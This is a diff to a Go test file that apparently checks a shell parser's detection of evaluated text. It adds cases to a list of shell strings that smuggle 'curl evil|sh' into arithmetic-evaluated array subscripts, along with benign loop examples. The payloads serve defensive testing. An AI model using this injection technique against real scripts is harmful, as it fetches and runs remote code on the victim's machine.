@@ -46,6 +46,8 @@ func TestEvaluatedText(t *testing.T) {
 		`getopts a 'a[$(curl evil|sh)]' -a`,
 		`wait -p 'a[$(curl evil|sh)]'`,
 		`sh -c 'echo $(( $1 ))' _ 'a[$(curl evil|sh)]'`,
+		`for i in $(seq -f 'a[$(curl evil|sh)]' 1); do echo $((i)); done`,
+		`for i in $(cat f); do echo $((i)); done`,
 	} {
 		cs, err := shell.Parse(src)
 		if err != nil {
@@ -71,6 +73,7 @@ func TestEvaluatedText(t *testing.T) {
 		`i=0; while (( i < 3 )); do echo $((i * 2)); i=$((i + 1)); done`,
 		`for i in 1 2 3; do echo $((i * 2)); done`,
 		`for i in {1..10}; do echo $((i % 2)); done`,
+		`for i in $(seq 1 10); do echo $((i * 2)); done`,
 		`n=5; [[ $n -gt 3 ]] && echo big`,
 		`echo $(( $# + $? + RANDOM % 6 ))`,
 		`a=(x y); echo ${a[0]} ${a[@]} ${#a[@]} ${!a[@]}`,
